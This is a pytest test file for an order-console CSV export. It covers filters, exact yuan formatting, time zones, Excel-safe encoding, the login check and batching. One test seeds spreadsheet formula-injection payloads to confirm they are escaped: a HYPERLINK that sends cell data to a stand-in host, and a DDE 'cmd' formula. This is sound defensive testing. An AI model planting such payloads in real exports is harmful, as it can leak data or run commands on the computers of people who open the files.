"""订单 → 导出 CSV: the operator takes every order line the page's filter admits into Excel to reconcile
commission — all of them (not one page), Chinese headers, exact yuan, times in their zone, a file Excel
opens as UTF-8 and never runs a member's product title as a formula; only behind the login."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from collections.abc import AsyncIterator, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from sqlalchemy import Engine, event, func, select
from sqlmodel import col

from bot.store import order_browse
from bot.store.groups import ensure_group
from bot.store.models import OrderRow
from bot.web.orders_csv import HEADER, id_cell, text_cell, yuan_cell
from tests.web import seed as bulk
from tests.web.conftest import Console, browser_login, serve_console
from tests.web.test_orders import NOW, _order, _store, around_midnight, seed

BOM = b"\xef\xbb\xbf"


@pytest.fixture
async def console(tmp_path: Path, store: Engine) -> AsyncIterator[Console]:
    """The console over an empty store whose clock reads NOW (the file's name says the day)."""
    async for running in serve_console(tmp_path, store, clock=lambda: NOW):
        yield running


async def download(client: httpx.AsyncClient, **params: str) -> httpx.Response:
    response = await client.get("/orders.csv", params=params)
    assert response.status_code == 200, response.text[:500]
    return response


def table(response: httpx.Response) -> list[dict[str, str]]:
    """The file as Excel reads it: UTF-8 after the BOM, one record per CRLF line, by column name."""
    raw = response.content
    assert raw.startswith(BOM)
    text = raw[len(BOM) :].decode("utf-8")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def ids(response: httpx.Response) -> list[str]:
    return [row["订单号"] for row in table(response)]


def listed(html: str) -> list[str]:
    return re.findall(r'<tr data-order="([^"]+)"', html)


async def test_the_file_holds_the_lines_the_pages_filter_admits(console: Console) -> None:
    groups = seed(console.engine)
    client = await console.logged_in()

    everything = table(await download(client))
    assert [row["订单号"] for row in everything] == ["J1", "T1", "T2", "T3", "J2"]  # as the page lists them
    first = everything[0]
    assert first["下单时间"] == "2026-05-20 07:00:00"  # 23:00 UTC on the 19th, in Shanghai
    assert first["联盟"] == "京东" and first["状态"] == "已付款" and first["群"] == "喝茶群"
    assert first["群编号"] == str(groups["tea"]) and first["群标记"] == "g7"
    assert first["付款金额(元)"] == "300.00" and first["佣金(元)"] == "30.00"
    assert everything[1]["推广位PID"] == "mm_1_2_3"
    unattributed = everything[3]
    assert unattributed["群"] == "未归属" and unattributed["群编号"] == ""
    assert unattributed["状态"] == "已取消/退款"

    for params, expected in (
        ({"league": "jd"}, ["J1", "J2"]),
        ({"status": "settled"}, ["T2", "J2"]),
        ({"group": "none"}, ["T3", "J2"]),
        ({"group": str(groups["tea"])}, ["J1", "T1"]),
        ({"league": "taobao", "group": str(groups["run"]), "status": "settled"}, ["T2"]),
        ({"q": "蓝牙"}, ["J1", "T1", "J2"]),
        ({"from": "2026-05-18", "to": "2026-05-19"}, ["T1", "T2"]),
        ({"from": "2026-05-19"}, ["J1", "T1"]),
        ({"to": "2026-05-17"}, ["T3", "J2"]),
        ({"league": "pdd"}, []),
    ):
        assert ids(await download(client, **params)) == expected, params
        page = (await client.get("/orders", params=params)).text
        assert listed(page) == expected, params  # the same lines the page shows


async def test_days_are_the_operators_own(console: Console) -> None:
    around_midnight(console.engine)
    client = await console.logged_in()
    second = table(await download(client, **{"from": "2026-05-02", "to": "2026-05-02"}))
    assert [(row["订单号"], row["下单时间"]) for row in second] == [("P-LATE", "2026-05-02 00:30:00")]
    first = table(await download(client, **{"from": "2026-05-01", "to": "2026-05-01"}))
    assert [(row["订单号"], row["下单时间"]) for row in first] == [("P-EARLY", "2026-05-01 23:30:00")]


async def test_money_is_exact_yuan_from_whole_fen(console: Console) -> None:
    _store(
        console.engine,
        "jd",
        (_order("M1", 1, commission=0, at=NOW), None),
        (_order("M2", 123_456, commission=12_345, at=NOW - timedelta(minutes=1)), None),
        (_order("M3", 10, commission=1, at=NOW - timedelta(minutes=2)), None),
        (_order("M4", 99_999_999_999, commission=-250, at=NOW - timedelta(minutes=3)), None),
    )
    client = await console.logged_in()
    money = [(row["付款金额(元)"], row["佣金(元)"]) for row in table(await download(client))]
    assert money == [
        ("0.01", "0.00"),
        ("1234.56", "123.45"),
        ("0.10", "0.01"),
        ("999999999.99", "-2.50"),  # a refund's clawed-back commission stays negative
    ]


def test_yuan_cells_never_go_through_float() -> None:
    assert [yuan_cell(fen) for fen in (0, 1, -1, 99, 100, 123_456, -123_456, 2**63 - 1)] == [
        "0.00",
        "0.01",
        "-0.01",
        "0.99",
        "1.00",
        "1234.56",
        "-1234.56",
        "92233720368547758.07",  # a float would have said 92233720368547760.00
    ]
    with pytest.raises(TypeError):
        yuan_cell(1.5)  # type: ignore[arg-type]


async def test_excel_opens_it_as_utf8_and_names_it_by_the_dates(console: Console) -> None:
    seed(console.engine)
    client = await console.logged_in()
    response = await download(client, **{"from": "2026-05-01", "to": "2026-05-31"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(BOM + "下单时间,联盟,订单号".encode())
    assert response.headers["cache-control"] == "no-store"
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="orders-2026-05-01-2026-05-31.csv"' in disposition
    encoded = re.search(r"filename\*=UTF-8''(\S+)", disposition)
    assert encoded and unquote(encoded.group(1)) == "订单-2026-05-01-2026-05-31.csv"

    def name(response: httpx.Response) -> str:
        found = re.search(r"filename\*=UTF-8''(\S+)", response.headers["content-disposition"])
        assert found
        return unquote(found.group(1))

    assert name(await download(client)) == "订单-截至2026-05-20.csv"  # today, in Shanghai
    assert name(await download(client, **{"from": "2026-05-10"})) == "订单-2026-05-10-2026-05-20.csv"
    swapped = await download(client, **{"from": "2026-05-31", "to": "2026-05-01"})
    assert name(swapped) == "订单-2026-05-01-2026-05-31.csv"  # the dates put in order, as the page does
    assert ids(swapped) == ["J1", "T1", "T2", "T3", "J2"]


async def test_a_hostile_title_or_group_name_is_shown_never_run(console: Console) -> None:
    engine = console.engine
    evil = ensure_group(engine, "evil@chatroom", "=cmd|' /C calc'!A0")
    plain = ensure_group(engine, "plain@chatroom", "1+1=2 拼单群")
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"点我领券")',
        "+86 13800000000",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "买一送一 = 半价",
    ]
    _store(
        engine,
        "taobao",
        *[
            (_order(f"X{n}", 100, title=title, at=NOW - timedelta(minutes=n)), evil.id if n else plain.id)
            for n, title in enumerate(titles)
        ],
    )
    client = await console.logged_in()
    rows = table(await download(client))
    assert [row["商品"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"点我领券")',
        "'+86 13800000000",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1+1",
        "'\r=1+1",
        "买一送一 = 半价",  # not at the start: Excel shows it as it is
    ]
    assert rows[0]["群"] == "1+1=2 拼单群"
    assert {row["群"] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)


def test_cells_that_start_like_a_formula_are_escaped_and_long_ids_stay_text() -> None:
    for dangerous in ("=1", "+1", "-1", "@A1", "\t1", "\r1", "\n1"):
        assert text_cell(dangerous) == "'" + dangerous
        assert id_cell(dangerous) == "'" + dangerous
    assert text_cell("耳机 -20%") == "耳机 -20%"
    assert id_cell("280175066411") == "280175066411\t"  # 12 digits: Excel would write 2.80175E+11
    assert id_cell("0012") == "0012\t"  # Excel would drop the zeros
    assert id_cell("12345678901") == "12345678901"  # short enough to stay whole
    assert id_cell("1") == "1" and id_cell("J1") == "J1"


async def test_long_order_numbers_survive_excel(console: Console) -> None:
    _store(
        console.engine, "taobao", (_order("3021548830123456789", 100, sku="0", product="620180443152"), None)
    )
    client = await console.logged_in()
    [row] = table(await download(client))
    assert row["订单号"] == "3021548830123456789\t"
    assert row["商品ID"] == "620180443152\t"
    assert row["子订单/SKU"] == "0"


async def test_a_value_the_page_cannot_read_is_left_out_the_same_way(console: Console) -> None:
    groups = seed(console.engine)
    client = await console.logged_in()
    everything = ["J1", "T1", "T2", "T3", "J2"]
    for params, expected, problem in (
        ({"status": "shipped"}, everything, "没有这个订单状态"),
        ({"group": "喝茶群"}, everything, "群的编号不对"),
        ({"from": "May first"}, everything, "开始日期看不懂"),
        ({"to": "2026-13-01"}, everything, "结束日期看不懂"),
        ({"league": "jd", "status": "shipped"}, ["J1", "J2"], "没有这个订单状态"),
        ({"group": str(groups["tea"]), "from": "soon", "page": "x"}, ["J1", "T1"], "开始日期看不懂"),
    ):
        page = (await client.get("/orders", params=params)).text
        assert problem in page, params
        assert listed(page) == expected, params
        assert ids(await download(client, **params)) == expected, params


async def test_the_orders_page_links_to_the_file_of_its_filter(console: Console) -> None:
    client = await console.logged_in()
    empty = (await client.get("/orders")).text
    assert "/orders.csv" not in empty  # nothing to take out yet

    seed(console.engine)
    page = (await client.get("/orders", params={"league": "jd", "status": "bogus", "page": "2"})).text
    link = re.search(r'<a class="button secondary" id="export-csv" href="([^"]+)"[^>]*>导出 CSV</a>', page)
    assert link
    href = link.group(1).replace("&amp;", "&")
    assert href == "/orders.csv?league=jd"  # the filter as applied; no page, no bad value
    assert ids(await client.get(href)) == ["J1", "J2"]
    assert "2 笔" in page[page.index('id="export-csv"') :]

    everything = (await client.get("/orders")).text
    assert 'href="/orders.csv"' in everything


async def test_logged_out_gets_the_login_page_not_the_orders(console: Console) -> None:
    seed(console.engine)
    stranger = console.client()
    refused = await stranger.get("/orders.csv", params={"league": "jd"})
    assert refused.status_code == 303
    assert refused.headers["location"] == "/login?next=/orders.csv%3Fleague%3Djd"
    assert "J1" not in refused.text and "content-disposition" not in refused.headers
    htmx = await stranger.get("/orders.csv", headers={"HX-Request": "true"})
    assert htmx.status_code == 401 and "J1" not in htmx.text

    stale = console.client()
    stale.cookies.set("tuike_session", "no-such-session")
    expired = await stale.get("/orders.csv")
    assert expired.status_code == 303 and "expired=1" in expired.headers["location"]

    operator = await console.logged_in()
    body = (await download(operator)).content.decode("utf-8-sig")
    session = operator.cookies.get("tuike_session")
    assert session and session not in body
    assert operator.headers["X-CSRF-Token"] not in body
    assert "argon2" not in body  # the stored password hash


async def test_ten_thousand_lines_in_a_few_queries_without_blocking_the_loop(
    console: Console, operator: httpx.AsyncClient, loop_watchdog: Any
) -> None:
    engine = console.engine
    await asyncio.to_thread(bulk.seed, engine, groups=20, orders=10_001, requests=0, now=NOW)

    def jd_orders() -> set[str]:
        with engine.connect() as connection:
            found = connection.execute(select(col(OrderRow.order_id)).where(col(OrderRow.league) == "jd"))
            return {order_id for (order_id,) in found}

    expected = await asyncio.to_thread(jd_orders)
    assert len(expected) == 2_500

    order_queries: list[str] = []

    def count(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if "FROM orders" in statement:
            order_queries.append(statement)

    event.listen(engine, "before_cursor_execute", count)
    try:
        everything = table(await download(operator))
        jd = table(await download(operator, league="jd"))
    finally:
        event.remove(engine, "before_cursor_execute", count)

    assert len(everything) == 10_001
    assert len({row["订单号"] for row in everything}) == 10_001  # each line once
    times = [row["下单时间"] for row in everything]
    assert times == sorted(times, reverse=True)  # newest first, across every batch
    assert {row["订单号"] for row in jd} == expected
    assert len(order_queries) == 11 + 3  # 1,000 a query (11 for 10,001 lines, 3 for 2,500), never one a line


@pytest.fixture
async def operator(console: Console) -> httpx.AsyncClient:
    """A logged-in client, made before a test's loop watchdog starts (making one loads CA files)."""
    return await console.logged_in()


def test_batches_resume_after_the_last_line_even_within_one_second(store: Engine) -> None:
    """Lines that share their time (a league's batch of sub-orders) are neither lost nor repeated at a
    batch's edge."""
    same = NOW - timedelta(hours=1)
    lines = [(_order(f"S{n:02d}", 100 + n, at=same, sku=str(n)), None) for n in range(11)]
    lines += [(_order(f"E{n}", 100, at=same - timedelta(microseconds=n + 1)), None) for n in range(3)]
    lines += [(_order("LATER", 100, at=NOW), None)]
    _store(store, "jd", *lines)
    _store(store, "taobao", (_order("OTHER", 100, at=same), None))

    def every(wanted: order_browse.OrderFilter, size: int) -> Iterator[order_browse.OrderLine]:
        batch = order_browse.order_batch(store, wanted, None, size)
        while batch:
            yield from batch
            batch = order_browse.order_batch(store, wanted, batch[-1], size)

    jd = order_browse.OrderFilter(league="jd")
    whole = order_browse.order_page(store, jd, 1, 100)
    assert len(whole) == 15
    for size in (1, 2, 3, 4, 7, 15, 100):
        assert [line.id for line in every(jd, size)] == [line.id for line in whole], size
    with store.connect() as connection:
        assert connection.execute(select(func.count()).select_from(OrderRow)).scalar_one() == 16


async def test_the_export_button_downloads_the_filtered_file_in_a_browser(
    console: Console, browser_page: Any
) -> None:
    seed(console.engine)
    page = browser_page
    await browser_login(page, console)
    await page.goto(console.url + "/orders?league=jd")
    async with page.expect_download() as waiting:
        await page.click("#export-csv")
    download = await waiting.value
    assert download.suggested_filename.startswith("订单-") and download.suggested_filename.endswith(".csv")
    saved = await download.path()
    assert saved is not None
    raw = await asyncio.to_thread(Path(saved).read_bytes)
    assert raw.startswith(BOM)
    ids = [row["订单号"] for row in csv.DictReader(io.StringIO(raw[len(BOM) :].decode("utf-8")))]
    assert ids == ["J1", "J2"], "the league the page was filtered by"
